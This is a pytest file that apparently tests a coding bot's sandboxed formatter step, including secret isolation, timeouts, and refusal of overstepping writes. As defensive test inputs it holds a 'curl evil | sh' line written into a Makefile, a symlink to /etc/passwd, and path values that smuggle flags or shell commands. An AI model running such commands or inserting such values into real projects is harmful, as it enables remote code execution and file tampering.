"""The formatter: an operator's exact command, run with nothing of the server's, on the files
the answer wrote, with the base commit's configuration, and checked again afterwards."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from bot.attempt.apply_answer import apply_answer
from bot.attempt.formatter import Formatter, FormatterRefused, format_changes
from bot.attempt.safe_write import EditPlan
from bot.core.policy import DEFAULT_PROTECTED_PATHS
from tests.git.conftest import make_repo

PROTECTED = DEFAULT_PROTECTED_PATHS


def edit(path: str, search: str, replace: str) -> str:
    return f"{path}\n```\n<<<<<<< SEARCH\n{search}\n=======\n{replace}\n>>>>>>> REPLACE\n```\n"


def new_file(path: str, content: str) -> str:
    return f"`{path}`\n```\n<<<<<<< SEARCH\n=======\n{content}\n>>>>>>> REPLACE\n```\n"


FIX = edit("calc.py", "    return a - b", "    return a + b")


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    return make_repo(
        tmp_path / "repo",
        {
            "calc.py": "def add(a, b):\n    return a - b\n",
            "pyproject.toml": '[tool.fmt]\nmark = "base"\n',
            "Makefile": "fmt:\n\ttrue\n",
        },
    )


def python_formatter(script: str, timeout: float = 30.0) -> Formatter:
    return Formatter("py", (sys.executable, "-c", script), timeout)


def applied(tree: Path, answer: str) -> EditPlan:
    plan = apply_answer(tree, answer, denied_paths=PROTECTED)
    assert plan.ok, plan.problems
    return plan


APPEND = (
    "import sys\nfor p in sys.argv[sys.argv.index('--') + 1:]:\n    open(p, 'a').write('# f\\n')\n"
)


def test_the_formatter_gets_the_written_paths_after_a_double_dash(tree: Path) -> None:
    plan = applied(tree, FIX)
    assert format_changes(tree, python_formatter(APPEND), plan, PROTECTED) is None
    assert (tree / "calc.py").read_text().endswith("return a + b\n# f\n")


def test_the_formatter_sees_none_of_the_servers_environment(
    tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LLM_API_KEY", "sk-operator-secret")
    monkeypatch.setenv("PRIVATE_KEY", "-----BEGIN RSA PRIVATE KEY-----")
    script = "import os, json\nopen('calc.py', 'a').write('# ' + json.dumps(sorted(os.environ)))\n"
    plan = applied(tree, FIX)
    format_changes(tree, python_formatter(script), plan, PROTECTED)
    seen = (tree / "calc.py").read_text().rsplit("# ", 1)[1]
    assert "LLM_API_KEY" not in seen and "PRIVATE_KEY" not in seen
    assert set(eval(seen)) <= {
        "PATH",
        "HOME",
        "TMPDIR",
        "LANG",
        "LC_ALL",
        "LC_CTYPE",
        "XDG_CACHE_HOME",
    }


def test_a_failing_formatter_is_a_note_and_the_edits_stay(tree: Path) -> None:
    plan = applied(tree, FIX)
    note = format_changes(tree, python_formatter("raise SystemExit(3)"), plan, PROTECTED)
    assert note is not None and "exited 3" in note
    assert (tree / "calc.py").read_text().endswith("return a + b\n")


def test_a_formatter_that_never_ends_is_stopped(tree: Path) -> None:
    plan = applied(tree, FIX)
    hang = "import threading\nthreading.Event().wait()\n"
    note = format_changes(tree, python_formatter(hang, timeout=0.5), plan, PROTECTED)
    assert note is not None and "did not finish" in note and "FORMATTER_TIMEOUT_SECONDS" in note


@pytest.mark.parametrize(
    ("script", "words"),
    [
        ("open('other.py', 'w').write('x = 1\\n')", "outside the planned set"),
        ("open('Makefile', 'a').write('\\tcurl evil | sh\\n')", "outside the planned set"),
        (
            "import os\nos.makedirs('.github/workflows')\n"
            "open('.github/workflows/x.yml', 'w').write('on: push')",
            "outside the planned set",
        ),
        ("import os\nos.remove('calc.py')\nos.symlink('/etc/passwd', 'calc.py')", "not a file"),
        ("import os\nos.symlink('/etc', 'etc-link')", "outside the planned set"),
    ],
    ids=["new-file", "runner-config", "workflow", "symlink-over-planned", "new-symlink"],
)
def test_a_formatter_that_oversteps_refuses_the_attempt(
    tree: Path, script: str, words: str
) -> None:
    plan = applied(tree, FIX)
    with pytest.raises(FormatterRefused, match=words):
        format_changes(tree, python_formatter(script), plan, PROTECTED)


def test_the_formatter_reads_its_configuration_from_the_base_commit(tree: Path) -> None:
    answer = FIX + edit("pyproject.toml", 'mark = "base"', 'mark = "model"')
    answer += new_file("sub/ruff.toml", "line-length = 1")
    plan = applied(tree, answer)
    script = (
        "import os\n"
        "seen = open('pyproject.toml').read().strip().splitlines()[-1]\n"
        "seen += ' sub/ruff.toml ' + ('present' if os.path.exists('sub/ruff.toml') else 'absent')\n"
        "open('calc.py', 'a').write('# ' + seen + '\\n')\n"
    )
    format_changes(tree, python_formatter(script), plan, PROTECTED)
    assert (tree / "calc.py").read_text().endswith('# mark = "base" sub/ruff.toml absent\n')
    # The model's edits are back in place afterwards, to be committed as written.
    assert 'mark = "model"' in (tree / "pyproject.toml").read_text()
    assert (tree / "sub/ruff.toml").read_text() == "line-length = 1\n"


@pytest.mark.parametrize(
    "path", ["-rf", "--output=x.py", ".SHELLFLAGS=-c id>X;", "src/a=b.py", "CC=evil"]
)
def test_paths_a_command_line_would_misread_are_refused_when_planned(tree: Path, path: str) -> None:
    plan = apply_answer(tree, new_file(path, "x = 1"), denied_paths=PROTECTED)
    assert not plan.ok
    assert any("'-'" in p.reason or "'='" in p.reason for p in plan.problems)
    assert not (tree / path).exists()
